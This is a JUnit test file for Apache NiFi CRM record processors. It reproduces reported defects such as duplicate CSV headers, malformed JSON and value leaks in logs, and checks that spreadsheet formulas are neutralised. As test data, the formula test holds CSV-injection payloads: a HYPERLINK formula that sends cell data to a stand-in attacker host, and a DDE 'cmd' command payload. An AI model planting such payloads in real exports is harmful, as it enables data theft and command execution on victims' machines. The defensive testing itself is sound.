package dev.nificrm.reliability;

import dev.nificrm.RecordServices;
import dev.nificrm.SmallStack;
import dev.nificrm.processors.CleanCRMRecord;
import dev.nificrm.processors.MapCRMRecord;
import dev.nificrm.processors.MatchCRMRecord;
import dev.nificrm.record.AbstractCRMRecordProcessor;
import org.apache.nifi.controller.AbstractControllerService;
import org.apache.nifi.logging.ComponentLog;
import org.apache.nifi.serialization.RecordSetWriter;
import org.apache.nifi.serialization.RecordSetWriterFactory;
import org.apache.nifi.serialization.WriteResult;
import org.apache.nifi.serialization.record.Record;
import org.apache.nifi.serialization.record.RecordSchema;
import org.apache.nifi.serialization.record.RecordSet;
import org.apache.nifi.util.MockFlowFile;
import org.apache.nifi.util.TestRunner;
import org.apache.nifi.util.TestRunners;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Each defect reported in issue 12, reproduced with its own input, through NiFi's real readers and writers.
 */
class ReportedDefectsTest {
    private static final List<String> SECRETS = List.of("Smith", "a@example.com", "Quenneville");

    @Test
    void mapRoutesListsWhereOneValueIsExpectedToInvalidNamingTheField() throws Exception {
        final RunOutcome outcome = run(map(), RecordFormat.JSON,
                "[{\"Id\":\"1\",\"FirstName\":[\"Ann\",\"Anna\"],\"Email\":[\"a@example.com\"]}]");
        assertFalse(outcome.wroteTo("success"), outcome.toString());
        final String reasons = outcome.reasons("invalid").getFirst();
        assertTrue(reasons.contains("/FirstName holds a list of 2 values"), reasons);
        assertTrue(reasons.contains("/Email holds a list of 1 value"), reasons);
        assertFalse(outcome.records("invalid").toString().contains("[Ljava.lang.Object;"), outcome.records("invalid").toString());
        outcome.assertReasonsHoldNoValue(SECRETS).assertNoLeak(SECRETS);
    }

    @Test
    void cleanRoutesAListEmailAndAnObjectPhoneToInvalidNamingTheFields() throws Exception {
        final RunOutcome outcome = run(clean(), RecordFormat.JSON, "[{\"Id\":\"1\",\"Email\":[\"not-an-email\"],\"Phone\":{\"home\":\"x\"}}]");
        assertFalse(outcome.wroteTo("success"), outcome.toString());
        assertEquals(List.of("Email: holds a list of 1 value where one email value is expected; Phone: holds an object where one phone value is expected"),
                outcome.reasons("invalid"));
    }

    @Test
    void theMigrationReaderRefusesARepeatedHeaderNameInsteadOfShiftingValues() throws Exception {
        final String export = "Id,FirstName,FirstName,LastName,Email,Email,Phone\n1,Ann,Anna,Smith,a@example.com,b@example.com,555-0100\n";
        run(map(), RecordFormat.CSV, export).assertConserved(1).assertFailedSaying("duplicate name").assertNoLeak(SECRETS);

        // why: NiFi's reader with its default settings shifts every value after the repeated name
        final TestRunner defaults = map().newRunner();
        RecordServices.useCsvReader(defaults);
        RecordServices.useJsonWriter(defaults);
        defaults.enqueue(export);
        defaults.run();
        final String shifted = defaults.getFlowFilesForRelationship(MapCRMRecord.REL_SUCCESS).getFirst().getContent();
        assertTrue(shifted.contains("\"phone\":\"a@example.com\""), shifted);
    }

    @Test
    void jsonValuesTheReaderWouldSkipSendTheFlowFileToFailureWithTheirPosition() throws Exception {
        for (final ProcessorSetup setup : ProcessorSetups.FAILING_WHOLE_FLOWFILES) {
            run(setup, RecordFormat.JSON, "[{\"Id\":\"1\",\"LastName\":\"Smith\"},\"x\",{\"Id\":\"2\"}]").assertConserved(2)
                    .assertFailedSaying("value 2 of the content is a string where a record (a JSON object) is expected");
            run(setup, RecordFormat.JSON, "[{\"Id\":\"1\"},null,{\"Id\":\"2\"},{\"Id\":\"3\"}]").assertFailedSaying("value 2 of the content is null");
            run(setup, RecordFormat.JSON, "{\"Id\":\"1\"}\n{\"Id\":\"2\"}\n7\n{\"Id\":\"3\"}\n").assertFailedSaying("value 3 of the content is a number");
        }
    }

    @Test
    void aValueNestedTooDeeplyForTheStackGoesToFailureInsteadOfEscaping() throws Exception {
        final String deep = "[{\"Id\":\"1\",\"LastName\":\"Smith\",\"Note\":" + "[".repeat(950) + "1" + "]".repeat(950) + "}]";
        for (final ProcessorSetup setup : ProcessorSetups.ALL) {
            try (ProcessorSetup.Started started = setup.start()) {
                final TestRunner runner = started.runner();
                RecordFormat.JSON.install(runner, setup.contract());
                // schedule the processor, then trigger it on a thread with the small stack of a busy NiFi thread
                runner.run(1, false, true);
                runner.enqueue(deep, setup.attributes().apply(deep.getBytes(StandardCharsets.UTF_8)));
                assertNull(SmallStack.trigger(runner), setup + ": nothing escapes onTrigger");
                final RunOutcome outcome = RunOutcome.of(setup, runner, RecordFormat.JSON, deep.getBytes(StandardCharsets.UTF_8), setup + " / deep");
                outcome.assertConserved(1).assertNoLeak(SECRETS);
                if (setup.contract().failsWholeFlowFiles()) {
                    outcome.assertFailedSaying("nested too deeply");
                }
            }
        }
    }

    @Test
    void matchWithFirstNameAsItsOnlyRoleIsValidAndRuns() throws Exception {
        final ProcessorSetup firstNameOnly = new ProcessorSetup("MatchCRMRecord (first_name only)", MatchCRMRecord.class,
                runner -> runner.setProperty("first_name", "/FirstName"));
        final TestRunner runner = firstNameOnly.newRunner();
        RecordFormat.JSON.install(runner);
        runner.assertValid();
        final RunOutcome outcome = run(firstNameOnly, RecordFormat.JSON, "[{\"FirstName\":\"Ann\"},{\"FirstName\":\"Ann\"},{\"FirstName\":\"Bob\"}]");
        outcome.assertConserved(3);
        assertFalse(outcome.failed(), outcome.toString());
    }

    @Test
    void aMalformedJsonTokenIsReportedByPositionWithoutTheToken() throws Exception {
        for (final ProcessorSetup setup : ProcessorSetups.FAILING_WHOLE_FLOWFILES) {
            final RunOutcome outcome = run(setup, RecordFormat.JSON, "[{\"Id\":\"1\",\"LastName\":Smith}]");
            outcome.assertConserved(1).assertFailedSaying("not valid JSON (line 1, column").assertNoLeak(SECRETS);
        }
    }

    @Test
    void aWriterFailingWithTheRecordInItsMessageLeavesNoValueInTheLogOrTheAttributes() throws Exception {
        for (final ProcessorSetup setup : ProcessorSetups.FAILING_WHOLE_FLOWFILES) {
            try (ProcessorSetup.Started started = setup.start()) {
                final TestRunner runner = started.runner();
                RecordServices.useJsonReader(runner);
                final RecordDumpingWriter writer = new RecordDumpingWriter();
                runner.addControllerService("failing-writer", writer);
                runner.enableControllerService(writer);
                runner.setProperty(AbstractCRMRecordProcessor.RECORD_WRITER, "failing-writer");
                final String content = "[{\"Id\":\"1\",\"FirstName\":\"Ann\",\"LastName\":\"Quenneville\",\"Email\":\"a@example.com\"}]";
                runner.enqueue(content);
                runner.run();
                RunOutcome.of(setup, runner, RecordFormat.JSON, content.getBytes(StandardCharsets.UTF_8), setup + " / failing writer")
                        .assertConserved(1).assertFailedSaying("Failed to write").assertNoLeak(SECRETS);
            }
        }
    }

    @Test
    void aBirthDateOf1e400IsReportedWithItsFieldName() throws Exception {
        final String content = "[{\"Id\":\"1\",\"LastName\":\"Smith\",\"Birthdate\":1e400}]";
        assertEquals(List.of("Birthdate: unrecognised date format"), run(clean(), RecordFormat.JSON, content).reasons("invalid"));
        run(map(), RecordFormat.JSON, content).assertConserved(1)
                .assertFailedSaying("the field Birthdate holds an infinite number, which the Record Writer cannot write");
    }

    @Test
    void aFieldNameWithABackslashIsMatchedLikeAnyOther() throws Exception {
        final ProcessorSetup match = ProcessorSetups.ALL.get(2);
        final RunOutcome outcome = run(match, RecordFormat.JSON,
                "[{\"Email\\\\\":\"a@example.com\",\"LastName\":\"Smith\"},{\"Email\\\\\":\"a@example.com\",\"LastName\":\"Smith\"}]");
        outcome.assertConserved(2);
        assertFalse(outcome.failed(), outcome.toString());
        assertEquals(2, outcome.records("matched").size(), "the email in Email\\ is compared: " + outcome);
    }

    @Test
    void recordsWhoseEveryFieldIsAPlaceholderDoNotMatchEachOther() throws Exception {
        final RunOutcome outcome = run(ProcessorSetups.ALL.get(2), RecordFormat.CSV, BadInputCatalogue.lines(BadInputCatalogue.HEADER,
                "N/A,N/A,N/A,N/A,N/A,N/A,N/A", "N/A,N/A,N/A,N/A,N/A,N/A,N/A", "unknown,unknown,unknown,unknown,unknown,unknown,unknown"));
        assertEquals(3, outcome.records("unmatched").size(), outcome.toString());
        outcome.records("unmatched").forEach(record -> assertEquals("0.0000", record.get("crm_match_score")));
    }

    @Test
    void identicalRecordsBeyondTheBlockSizeCapFormOneCluster() throws Exception {
        for (final int count : new int[] {200, 201, 1000}) {
            final List<String> rows = new ArrayList<>(Collections.nCopies(count, "1,Ann,Smith,a@example.com,(415) 555-0100,1980-04-02,94107"));
            rows.addFirst(BadInputCatalogue.HEADER);
            final RunOutcome outcome = run(ProcessorSetups.ALL.get(2), RecordFormat.CSV, BadInputCatalogue.lines(rows.toArray(new String[0])));
            final List<Map<String, String>> matched = outcome.records("matched");
            assertEquals(count, matched.size(), count + " identical records: " + outcome);
            assertEquals(1, matched.stream().map(record -> record.get("crm_match_id")).distinct().count(), count + " identical records are one cluster");
        }
    }

    @Test
    void formulasAreNeutralisedInTheCsvWhenAskedAndLeftAloneByDefault() throws Exception {
        final String export = BadInputCatalogue.lines(BadInputCatalogue.HEADER,
                "1,=HYPERLINK(\"http://evil.example/?\"&A1),Smith,a@example.com,+14155550100,,",
                "2,@SUM(A1),\"=cmd|' /C calc'!A0\",b@example.com,+1+1,,",
                "3,-2+3,\"\tTab\",c@example.com,-42,,",
                "4,\"\rReturn\",=1+1,d@example.com,+44 20 7946 0958,,");
        final ProcessorSetup neutralising = new ProcessorSetup("MatchCRMRecord (Neutralize Spreadsheet Formulas)", MatchCRMRecord.class,
                runner -> runner.setProperty(AbstractCRMRecordProcessor.NEUTRALIZE_SPREADSHEET_FORMULAS, "true"));
        final List<Map<String, String>> records = all(run(neutralising, RecordFormat.CSV, export));
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1)", value(records, "1", "FirstName"));
        assertEquals("+14155550100", value(records, "1", "Phone"), "an E.164 phone is no formula");
        assertEquals("'@SUM(A1)", value(records, "2", "FirstName"));
        assertEquals("'=cmd|' /C calc'!A0", value(records, "2", "LastName"));
        assertEquals("'+1+1", value(records, "2", "Phone"));
        assertEquals("'-2+3", value(records, "3", "FirstName"));
        assertEquals("Tab", value(records, "3", "LastName"), "the migration reader trims a leading tab (SpreadsheetFormulasTest covers it)");
        assertEquals("-42", value(records, "3", "Phone"), "a plain number is no formula");
        assertEquals("Return", value(records, "4", "FirstName"), "the migration reader trims a leading carriage return");
        assertEquals("'=1+1", value(records, "4", "LastName"));
        assertEquals("'+44 20 7946 0958", value(records, "4", "Phone"), "a spreadsheet would compute +44 20 7946 0958");

        final List<Map<String, String>> unchanged = all(run(ProcessorSetups.ALL.get(2), RecordFormat.CSV, export));
        assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1)", value(unchanged, "1", "FirstName"), "off by default");
        assertEquals("@SUM(A1)", value(unchanged, "2", "FirstName"), "off by default");
    }

    private static List<Map<String, String>> all(final RunOutcome outcome) throws IOException {
        final List<Map<String, String>> records = new ArrayList<>();
        for (final String relationship : List.of("matched", "unmatched", "review")) {
            records.addAll(outcome.records(relationship));
        }
        assertEquals(4, records.size(), outcome.toString());
        return records;
    }

    private static String value(final List<Map<String, String>> records, final String id, final String field) {
        return records.stream().filter(record -> id.equals(record.get("Id"))).findFirst().orElseThrow().get(field);
    }

    private static ProcessorSetup clean() {
        return ProcessorSetups.ALL.get(0);
    }

    private static ProcessorSetup map() {
        return ProcessorSetups.ALL.get(1);
    }

    private static RunOutcome run(final ProcessorSetup setup, final RecordFormat format, final String content) throws Exception {
        return RunOutcome.run(setup, format, content.getBytes(StandardCharsets.UTF_8), setup.name());
    }

    /** A writer that fails the way NiFi's writers can, with the whole record in its message. */
    public static class RecordDumpingWriter extends AbstractControllerService implements RecordSetWriterFactory {
        @Override
        public RecordSchema getSchema(final Map<String, String> variables, final RecordSchema readSchema) {
            return readSchema;
        }

        @Override
        public RecordSetWriter createWriter(final ComponentLog logger, final RecordSchema schema, final OutputStream out,
                                            final Map<String, String> variables) {
            return new RecordSetWriter() {
                @Override
                public WriteResult write(final RecordSet recordSet) throws IOException {
                    throw new IOException("Failed to write a record set");
                }

                @Override
                public void beginRecordSet() {
                }

                @Override
                public WriteResult finishRecordSet() {
                    return WriteResult.EMPTY;
                }

                @Override
                public WriteResult write(final Record record) throws IOException {
                    logger.error("Failed to write {}", record);
                    throw new IOException("Failed to write " + record);
                }

                @Override
                public String getMimeType() {
                    return "application/json";
                }

                @Override
                public void flush() {
                }

                @Override
                public void close() {
                }
            };
        }
    }
}
